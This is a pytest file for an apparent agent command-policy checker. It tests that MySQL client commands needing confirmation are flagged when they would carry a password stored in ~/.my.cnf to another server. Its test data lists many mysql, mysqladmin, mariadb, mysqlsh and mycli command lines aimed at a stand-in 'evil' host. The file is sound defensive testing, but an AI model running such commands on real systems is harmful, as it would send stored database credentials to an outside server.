"""A stored password of MySQL is sent to no other server without a question."""

from pathlib import Path

import pytest

from hermes.policy.actions.reader import ActionContext, ActionReader, resolve_symlinks
from hermes.policy.command_analysis import analyse_command
from hermes.policy.examination import action_from_description, parse_description


def asks(command: str, home: Path) -> bool:
    reader = ActionReader(analyse_command, lookup=resolve_symlinks)
    action = action_from_description(parse_description({"command": command}))
    return "network-out" in reader.read(action, ActionContext(cwd="/", home=str(home))).effects


OTHER_SERVERS = """
mysql -h 127.0.0.1 -P 13307 -e 'select 1'
mysql -hevil.example.com -e 'select 1'
mysql -Nh evil -e 'select 1'
mysql -S /tmp/x.sock -e 'select 1'
mysql --ho=evil -e 'select 1'
mysql --hos evil -e 'select 1'
mysqladmin -h evil.example.com ping
mysqladmin --loose-host=evil ping
mysqlshow -h evil
mariadb --host=evil -e 'select 1'
mysqlsh root@evil --sql -e 'select 1'
mycli mysql://root@evil/db -e 'select 1'
mysql --defaults-file=HOME/.my.cnf -h evil -e 'select 1'
mysql --defaults-file=~/.my.cnf --port=13307 -e 'select 1'
""".strip().splitlines()


@pytest.mark.parametrize("command", OTHER_SERVERS)
@pytest.mark.parametrize(
    "text",
    [
        "[client]\nuser=u\npassword='s3cret'\n",
        "[mysqld]\nport=13307\n[client-server]\n[client]\nloose-password = x\nhost = db-1\n",
        "[client]\n!includedir HOME/more\n",
    ],
)
def test_a_password_for_one_server_asks_before_it_goes_to_another(
    command: str, text: str, tmp_path: Path
) -> None:
    (tmp_path / "more").mkdir()
    (tmp_path / "more" / "a.cnf").write_text("[client]\npassword=x\n")
    (tmp_path / ".my.cnf").write_text(text.replace("HOME", str(tmp_path)))
    assert asks(command.replace("HOME", str(tmp_path)), tmp_path)


@pytest.mark.parametrize("command", OTHER_SERVERS)
@pytest.mark.parametrize("text", ["", "[client]\nuser=u\npassword=\n", "[mysqld]\npassword=x\n"])
def test_without_a_stored_password_any_server_may_be_asked(
    command: str, text: str, tmp_path: Path
) -> None:
    (tmp_path / ".my.cnf").write_text(text)
    assert not asks(command.replace("HOME", str(tmp_path)), tmp_path)


@pytest.mark.parametrize(
    "command",
    [
        "mysql -e 'select 1'",
        "mysql -h DB-1 -P 3307 -e 'select 1'",
        "mysqladmin --host=db-1 ping",
        "mysql -h evil -pother -e 'select 1'",
        "mysql --no-defaults -h evil -e 'select 1'",
        "docker exec db mysql -h evil -e 'select 1'",
    ],
)
def test_the_configured_server_and_another_password_are_plain(command: str, tmp_path: Path) -> None:
    (tmp_path / ".my.cnf").write_text("[client]\npassword=x\nhost=db-1\nport=3307\n")
    assert not asks(command, tmp_path)


def test_the_server_of_an_obfuscated_file_is_not_known(tmp_path: Path) -> None:
    (tmp_path / ".mylogin.cnf").write_bytes(b"\0\0\0\0key\n\1")
    assert asks("mysql --login-path=prod -h db-1 -e 'select 1'", tmp_path)
    assert not asks("mysql --login-path=prod -e 'select 1'", tmp_path)


@pytest.mark.parametrize("name", ["MYSQL_HOST", "MYSQL_TCP_PORT", "MYSQL_GROUP_SUFFIX"])
def test_variables_that_choose_the_server_are_held(name: str) -> None:
    assert not analyse_command(f"{name}=x mysql -e 'select 1'", cwd="/", home="/x").is_read_only
